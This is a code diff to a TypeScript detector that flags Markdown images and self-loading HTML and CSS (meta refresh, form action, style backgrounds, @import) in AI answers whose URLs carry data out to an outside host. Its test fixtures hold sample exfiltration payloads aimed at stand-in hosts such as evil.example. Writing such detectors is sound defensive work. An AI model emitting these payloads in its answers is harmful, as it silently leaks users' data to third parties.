@@ -5,11 +5,11 @@ import { z } from 'zod';
 import { defineDetector, type Match } from '../../detector.ts';
 import { FEATURE } from '../../features.ts';
 import { Addresses, Brackets, isBlank } from './brackets.ts';
+import { htmlTag, TAG_CHARS } from './html-tags.ts';
 
 const ALT_CHARS = 2_000;
 const URL_CHARS = 4_000;
 const TITLE_CHARS = 500;
-const TAG_CHARS = 4_096;
 /** Names of files and hosts are shorter; data that is worth stealing rarely is. */
 const SEGMENT_CHARS = 32;
 
@@ -27,7 +27,7 @@ type Found =
       readonly url?: string;
     };
 const [LESS, GREATER, SLASH, BACKSLASH] = [0x3c, 0x3e, 0x2f, 0x5c];
-const [QUOTE, APOSTROPHE, LINE_FEED] = [0x22, 0x27, 0x0a];
+const LINE_FEED = 0x0a;
 const OPEN: Found = { kind: 'open' };
 const NONE: Found = { kind: 'none' };
 
@@ -125,43 +125,6 @@ function destination(text: string, start: number, addresses: Addresses): Found {
   return text.length - at < TITLE_CHARS ? OPEN : NONE;
 }
 
-const TAG =
-  /^<(?:img|image|iframe|video|audio|source|embed|object|link|input|body|table|td|svg|script)\b/i;
-const TAG_NAME_CHARS = 8;
-const ATTRIBUTE =
-  /\b(?:src|srcset|data|href|poster|background|style)\s{0,8}=\s{0,8}(?:"([^"]*)"|'([^']*)'|([^\s"'>]+))/gi;
-
-/** An HTML tag that loads what it names, from its angle bracket. */
-function htmlTag(text: string, start: number): Found {
-  const name = text.slice(start, start + TAG_NAME_CHARS + 2);
-  if (!TAG.test(name)) {
-    return start + name.length >= text.length && /^<[a-z]*$/i.test(name) ? OPEN : NONE;
-  }
-  let quote = 0;
-  for (let at = start + 1; at - start < TAG_CHARS; at++) {
-    if (at >= text.length) return OPEN;
-    const code = text.charCodeAt(at);
-    if (quote !== 0) quote = code === quote ? 0 : quote;
-    else if (code === QUOTE || code === APOSTROPHE) quote = code;
-    else if (code === LESS) return NONE;
-    else if (code === GREATER) return tagLink(text.slice(start, at + 1), at + 1);
-  }
-  return NONE;
-}
-
-function tagLink(tag: string, end: number): Found {
-  let url = '';
-  for (const match of tag.matchAll(ATTRIBUTE)) {
-    const value = (match[1] ?? match[2] ?? match[3] ?? '').replaceAll(
-      /&(?:#63|#x3f|quest);/gi,
-      '?',
-    );
-    const address = /(?:https?:|[/\\]{2})[^\s"')]+/i.exec(value)?.[0] ?? '';
-    if (address.length > url.length) url = address;
-  }
-  return { kind: 'link', end, entity: 'html-image', url };
-}
-
 /** `[label]: url` at the start of a line. Many are honest links, so the address has to hold much. */
 function definition(text: string, start: number): Found {
   const line = /^\[[^\]\n]{1,100}\](?::\s{0,8}(?:<?(\S*)\s?)?)?/;
@@ -207,10 +170,10 @@ function* placesIn(
 
 export const detector = defineDetector({
   id: 'output/markdown-exfiltration',
-  version: '2',
+  version: '3',
   title: 'Image that carries data out',
   summary:
-    'Finds Markdown and HTML images in answers whose address holds a query, a long path segment or a long host label, and reference-style images.',
+    'Finds Markdown images, and HTML and style sheets that load by themselves, in answers whose address holds a query, a long path segment or a long host label, and reference-style images.',
   why: 'Loading an image is a request that nobody has to click. Honest badges and charts with a query are found too: name their hosts in `allowed_hosts`. Links that have to be clicked are not found.',
   taxonomy: ['owasp-llm-2025:LLM05', 'owasp-llm-2025:LLM02', 'mitre-atlas-5.6.0:AML.T0077'],
   phases: ['response'],
@@ -248,6 +211,18 @@ export const detector = defineDetector({
         text: "x <IMG alt='>' src=https://evil.example/?x=1> y",
         found: ["<IMG alt='>' src=https://evil.example/?x=1>"],
       },
+      {
+        text: '<meta http-equiv=refresh content="0;url=https&colon;//e.example/&quest;d=1">',
+        found: ['<meta http-equiv=refresh content="0;url=https&colon;//e.example/&quest;d=1">'],
+      },
+      {
+        text: '<form action="//e.example/?d=1"> <div style="background:url(//e.example/?d)">',
+        found: ['<form action="//e.example/?d=1">', '<div style="background:url(//e.example/?d)">'],
+      },
+      {
+        text: '<style>@import "https://e.example/a.css?d=1";</style>',
+        found: ['<style>@import "https://e.example/a.css?d=1";</'],
+      },
       { text: '![](//evil.example/??secret)', found: ['![](//evil.example/??secret)'] },
       { text: '![pic][1] text', found: ['![pic][1]'] },
       {
@@ -261,7 +236,8 @@ export const detector = defineDetector({
       '[a link](https://example.com/search?q=cats)',
       'if (![1, 2].includes(x)) return;',
       'a < b && c > d',
-      '<p>text</p>',
+      '<p>text</p> <div class="a?b">x</div> <style>p { color: red }</style>',
+      '<meta name="description" content="What? A page."><form action="/search?x=1">',
       '[1]: https://example.com/page?id=5',
       '![never closed',
     ],
